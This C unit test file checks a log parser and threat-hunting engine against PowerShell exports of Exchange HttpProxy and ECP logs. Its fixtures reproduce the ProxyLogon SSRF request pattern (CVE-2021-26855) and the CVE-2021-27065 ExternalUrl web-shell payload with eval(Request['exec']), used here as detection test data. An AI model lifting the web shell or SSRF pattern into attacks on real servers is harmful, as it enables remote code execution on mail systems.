/*
 * test_exports.c - Exchange evidence as responders hand it over: PowerShell
 * Export-Csv files of HttpProxy / ECP rows (with and without the "#TYPE"
 * line), and the ECP Server line as advisories print it, without the outer
 * quotes of its EventData (read by the lenient re-read, and noted).
 *
 * The fixtures are written for this test:
 *  - the Export-Csv file has the columns Test-ProxyLogon selects before
 *    Export-Csv (DateTime, RequestId, ClientIPAddress, UrlHost, UrlStem,
 *    RoutingHint, UserAgent, AnchorMailbox, HttpStatus;
 *    https://github.com/microsoft/CSS-Exchange, Security/src/
 *    Test-ProxyLogon.ps1), under the "#TYPE Selected.System.Management.
 *    Automation.PSCustomObject" line Windows PowerShell writes for
 *    Select-Object output; the rows are the ProxyLogon SSRF sequence
 *    (autodiscover, mapi/emsmdb, proxyLogon.ecp answered 241);
 *  - the ECP line is the CVE-2021-27065 Set-OabVirtualDirectory ExternalUrl
 *    payload of Microsoft's HAFNIUM post
 *    (https://www.microsoft.com/security/blog/2021/03/02/hafnium-targeting-
 *    exchange-servers/), CISA AA21-062A
 *    (https://www.cisa.gov/news-events/cybersecurity-advisories/aa21-062a)
 *    and Volexity's post (https://www.volexity.com/blog/2021/03/02/active-
 *    exploitation-of-microsoft-exchange-zero-day-vulnerabilities/), in the
 *    shape it is quoted in write-ups: TimeStamp,ServerName,EventId, then
 *    EventData with its CSV quotes dropped but its doubled quotes kept, so
 *    a quote sits inside an unquoted field and the comma of
 *    eval(...,""unsafe"") splits it.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "testutil.h"

#include "readers/lines.h"
#include "readtest.h"

#include <stdio.h>
#include <stdlib.h>

#define HP_HEADER                                                              \
  "\"DateTime\",\"RequestId\",\"ClientIpAddress\",\"UrlHost\",\"UrlStem\","    \
  "\"RoutingHint\",\"UserAgent\",\"AnchorMailbox\",\"HttpStatus\"\r\n"

static const char hp_export[] =
    "#TYPE Selected.System.Management.Automation.PSCustomObject\r\n" HP_HEADER
    "\"2021-03-03T06:59:10.817Z\",\"0c4b2f1e-59d4-4a53-9be4-7f3a1c2d8e01\","
    "\"203.0.113.66\",\"mail.example.org\",\"/ecp/y.js\","
    "\"X-BEResource-Cookie\",\"ExchangeServicesClient/0.0.0.0\","
    "\"ServerInfo~a]@exch01.corp.example:444/autodiscover/autodiscover.xml?#\","
    "\"200\"\r\n"
    "\"2021-03-03T06:59:11.840Z\",\"6e1d0a7b-1f0c-4c1e-8d43-2b9f5e7a6c02\","
    "\"203.0.113.66\",\"mail.example.org\",\"/ecp/y.js\","
    "\"X-BEResource-Cookie\",\"python-requests/2.25.1\","
    "\"ServerInfo~a]@exch01.corp.example:444/mapi/emsmdb/?#\",\"200\"\r\n"
    "\"2021-03-03T06:59:13.030Z\",\"a1f3c9d2-7b4e-4f08-9c61-5d2e8b3f4a03\","
    "\"203.0.113.66\",\"mail.example.org\",\"/ecp/y.js\","
    "\"X-BEResource-Cookie\",\"python-requests/2.25.1\","
    "\"ServerInfo~a]@exch01.corp.example:444/ecp/proxyLogon.ecp?#\","
    "\"241\"\r\n";

/* Test-ProxyLogon's HttpProxy export: claimed, every row an HttpProxy event
 * with its columns mapped by name. */
static void test_httpproxy_export(void **state) {
  (void)state;
  assert_string_equal(sniffed(hp_export), "exchange_csv");
  got *g = rt_run("exchange_csv", hp_export, strlen(hp_export));
  assert_int_equal(g->n_bad, 0);
  assert_int_equal(g->n_notes, 0);
  assert_int_equal(g->n, 3);
  assert_int_equal(g->kind[2], SP_SRC_EXCH_HTTPPROXY);
  assert_int_equal(g->line[2], 5);
  assert_int_equal(g->ts[2], 1614754753030000000LL);
  assert_string_equal(F(g, 2, SP_F_SOURCE_IP), "203.0.113.66");
  assert_string_equal(F(g, 2, SP_F_URL_DOMAIN), "mail.example.org");
  assert_string_equal(F(g, 2, SP_F_URL_PATH), "/ecp/y.js");
  assert_string_equal(F(g, 2, SP_F_USER_AGENT), "python-requests/2.25.1");
  assert_string_equal(F(g, 2, SP_F_EXCH_ANCHOR),
                      "ServerInfo~a]@exch01.corp.example:444/ecp/"
                      "proxyLogon.ecp?#");
  assert_string_equal(F(g, 2, SP_F_HTTP_STATUS), "241");
  assert_string_equal(F(g, 0, SP_F_HTTP_STATUS), "200");
  free(g);
}

/* -NoTypeInformation, another subset in another order, a quote inside a
 * value; a row with more values than columns is still rejected. */
static void test_export_without_type_line(void **state) {
  (void)state;
  const char log[] =
      "\"UrlStem\",\"HttpStatus\",\"DateTime\",\"ClientIpAddress\","
      "\"UserAgent\"\r\n"
      "\"/owa/auth/"
      "x.js\",\"200\",\"2021-03-03T07:00:00.000Z\",\"198.51.100.7\","
      "\"curl \"\"7\"\", x\"\r\n"
      "\"/ecp/\",\"200\",\"2021-03-03T07:00:01.000Z\",\"198.51.100.7\",\"a\","
      "\"b\"\r\n";
  assert_string_equal(sniffed(log), "exchange_csv");
  got *g = rt_run("exchange_csv", log, strlen(log));
  assert_int_equal(g->n, 1);
  assert_int_equal(g->kind[0], SP_SRC_EXCH_HTTPPROXY);
  assert_string_equal(F(g, 0, SP_F_URL_PATH), "/owa/auth/x.js");
  assert_string_equal(F(g, 0, SP_F_SOURCE_IP), "198.51.100.7");
  assert_string_equal(F(g, 0, SP_F_HTTP_STATUS), "200");
  assert_string_equal(F(g, 0, SP_F_USER_AGENT), "curl \"7\", x");
  assert_int_equal(g->ts[0], 1614754800000000000LL);
  assert_int_equal(g->n_bad, 1);
  assert_int_equal(g->bad_line[0], 3);
  free(g);
}

/* An Export-Csv of ECP Server rows: EventData makes it an ECP log. */
static void test_ecp_export(void **state) {
  (void)state;
  const char log[] =
      "#TYPE System.Management.Automation.PSCustomObject\r\n"
      "\"TimeStamp\",\"ServerName\",\"EventId\",\"EventData\"\r\n"
      "\"2021-03-03T06:59:14.518Z\",\"EXCH01\",\"ECP.Request\","
      "\"S:TIME=60;S:CMD=Get-OabVirtualDirectory;S:BLD=15.1.2176.2\"\r\n";
  assert_string_equal(sniffed(log), "exchange_csv");
  got *g = rt_run("exchange_csv", log, strlen(log));
  assert_int_equal(g->n_bad, 0);
  assert_int_equal(g->n, 1);
  assert_int_equal(g->kind[0], SP_SRC_EXCH_ECP);
  assert_string_equal(F(g, 0, SP_F_HOST_NAME), "EXCH01");
  assert_string_equal(F(g, 0, SP_F_EXCH_ECP_CMD), "Get-OabVirtualDirectory");
  free(g);
}

/* Exports of other objects, with or without #TYPE, are not Exchange logs. */
static void test_other_exports_not_claimed(void **state) {
  (void)state;
  const char *other[] = {
      "#TYPE System.Management.Automation.PSCustomObject\r\n"
      "\"Name\",\"Length\",\"LastWriteTime\"\r\n"
      "\"a.txt\",\"12\",\"3/3/2021 6:59:13 AM\"\r\n",
      "#TYPE Selected.System.Diagnostics.Process\r\n"
      "\"DateTime\",\"Message\",\"UserAgent\",\"Level\"\r\n"
      "\"2021-03-03T06:59:13Z\",\"hello\",\"x\",\"Info\"\r\n",
      "\"DateTime\",\"Message\"\r\n\"2021-03-03T06:59:13Z\",\"hello\"\r\n",
  };
  for (size_t i = 0; i < sizeof other / sizeof other[0]; i++) {
    const char *r = sniffed(other[i]);
    assert_true(r == NULL || strcmp(r, "exchange_csv") != 0);
  }
}

/* The advisory line: EventData without its outer quotes. */
#define ECP_SET_ADVISORY                                                       \
  "2021-03-03T06:59:17.960Z,EXCH01,ECP.Request,'S:CMD=Set-OabVirtualDirectory" \
  ".ExternalUrl=''http://f/<script language=\"\"JScript\"\" "                  \
  "runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"exec\"\"],"      \
  "\"\"unsafe\"\");}</script>''.Identity=''982d48c8-8bfa-4b6b-b431-"           \
  "53fd7ea4e9b3''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema="   \
  "OABVirtualDirectory;S:EX=;S:RS=0;S:BLD=15.1.2176.2\r\n"

#define ECP_GET_LINE                                                           \
  "2021-03-03T06:59:14.518Z,EXCH01,ECP.Request,\"S:TIME=60;S:CMD=Get-Oab"      \
  "VirtualDirectory;S:REQID=;S:URL=/ecp/DDI/DDIService.svc/GetObject?schema="  \
  "OABVirtualDirectory;S:EX=;S:RS=0;S:BLD=15.1.2176.2\"\r\n"

static void test_ecp_advisory_line_lenient(void **state) {
  (void)state;
  got *g = rt_run("exchange_csv", ECP_GET_LINE ECP_SET_ADVISORY,
                  strlen(ECP_GET_LINE ECP_SET_ADVISORY));
  assert_int_equal(g->n_bad, 0);
  assert_int_equal(g->n, 2);
  assert_int_equal(g->kind[1], SP_SRC_EXCH_ECP);
  assert_int_equal(g->line[1], 2);
  assert_int_equal(g->ts[1], 1614754757960000000LL);
  assert_string_equal(F(g, 1, SP_F_HOST_NAME), "EXCH01");
  assert_string_equal(F(g, 1, SP_F_EVENT_ACTION), "ECP.Request");
  /* Read as Python's csv reads it: the doubled quotes stay as printed. */
  assert_string_equal(F(g, 1, SP_F_EXCH_ECP_CMD),
                      "Set-OabVirtualDirectory.ExternalUrl='http://f/<script "
                      "language=\"\"JScript\"\" runat=\"\"server\"\">function "
                      "Page_Load(){eval(Request[\"\"exec\"\"],\"\"unsafe\"\");}"
                      "</script>'.Identity='982d48c8-8bfa-4b6b-b431-"
                      "53fd7ea4e9b3'");
  assert_string_equal(F(g, 1, SP_F_URL_PATH),
                      "/ecp/DDI/DDIService.svc/SetObject");
  assert_string_equal(F(g, 1, SP_F_EXCH_BUILD), "15.1.2176.2");
  assert_int_equal(g->n_notes, 1);
  assert_non_null(strstr(g->note, "1 line read leniently"));
  assert_non_null(strstr(g->note, "line 2"));
  free(g);
}

/* Several lenient lines under a #Fields header: one note, counted, the first
 * three line numbers; an unclosed quote in an HttpProxy row is a literal. */
static void test_lenient_note_counts(void **state) {
  (void)state;
  const char log[] =
      "#Software: Microsoft Exchange Server\r\n"
      "#Log-type: ECP Server Log\r\n"
      "#Fields: TimeStamp,ServerName,EventId,EventData\r\n" ECP_SET_ADVISORY
          ECP_GET_LINE ECP_SET_ADVISORY ECP_SET_ADVISORY ECP_SET_ADVISORY;
  got *g = rt_run("exchange_csv", log, strlen(log));
  assert_int_equal(g->n_bad, 0);
  assert_int_equal(g->n, 5);
  assert_int_equal(g->n_notes, 1);
  assert_non_null(strstr(g->note, "4 lines read leniently"));
  assert_non_null(strstr(g->note, "lines 4, 6, 7, ..."));
  free(g);

  const char hp[] = "DateTime,ClientIpAddress,UserAgent,AnchorMailbox,"
                    "HttpStatus\r\n"
                    "2021-03-03T07:00:00.000Z,198.51.100.7,\"python,"
                    "ServerInfo~a]@exch01:444/ecp/x.ecp?#,200\r\n";
  g = rt_run("exchange_csv", hp, strlen(hp));
  assert_int_equal(g->n_bad, 0);
  assert_int_equal(g->n, 1);
  assert_string_equal(F(g, 0, SP_F_USER_AGENT), "\"python");
  assert_string_equal(F(g, 0, SP_F_EXCH_ANCHOR),
                      "ServerInfo~a]@exch01:444/ecp/x.ecp?#");
  assert_string_equal(F(g, 0, SP_F_HTTP_STATUS), "200");
  assert_non_null(strstr(g->note, "line 2"));
  free(g);
}

/* Through the engine: the export gives the CVE-2021-26855 anchor finding,
 * the advisory ECP line the CVE-2021-27065 finding, and its coverage says
 * the line was read leniently. */
static void test_hunt_exports(void **state) {
  (void)state;
  static const char ecp[] = ECP_GET_LINE ECP_SET_ADVISORY;
  char *dir = tu_tmpdir();
  tu_write(dir, "CVE-2021-26855.csv", hp_export, sizeof hp_export - 1);
  tu_write(dir, "ecp_advisory.txt", ecp, sizeof ecp - 1);
  sp_result *r = tu_hunt(dir, 1);
  const sp_file_cov *c = tu_cov(r, "CVE-2021-26855.csv");
  assert_non_null(c);
  assert_string_equal(c->source, "exchange_httpproxy");
  assert_int_equal(c->events, 3);
  assert_int_equal(c->malformed, 0);
  const sp_finding *f =
      tu_find(r, "spoor.exchange.cve_2021_26855.anchor_mailbox", 0);
  assert_non_null(f);
  assert_non_null(
      tu_find(r, "spoor.exchange.cve_2021_26855.proxylogon_ecp", 0));
  c = tu_cov(r, "ecp_advisory.txt");
  assert_non_null(c);
  assert_string_equal(c->source, "exchange_ecp");
  assert_int_equal(c->events, 2);
  assert_int_equal(c->malformed, 0);
  assert_non_null(c->note);
  assert_non_null(strstr(c->note, "1 line read leniently"));
  f = tu_find(r, "spoor.exchange.cve_2021_27065.ecp_set_vdir_script", 0);
  assert_non_null(f);
  assert_int_equal(f->evidence[0].where, 2);
  assert_int_equal(sp_result_problems(r), 0);
  sp_result_destroy(r);
  tu_rm_rf(dir);
  free(dir);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_httpproxy_export),
      cmocka_unit_test(test_export_without_type_line),
      cmocka_unit_test(test_ecp_export),
      cmocka_unit_test(test_other_exports_not_claimed),
      cmocka_unit_test(test_ecp_advisory_line_lenient),
      cmocka_unit_test(test_lenient_note_counts),
      cmocka_unit_test(test_hunt_exports),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
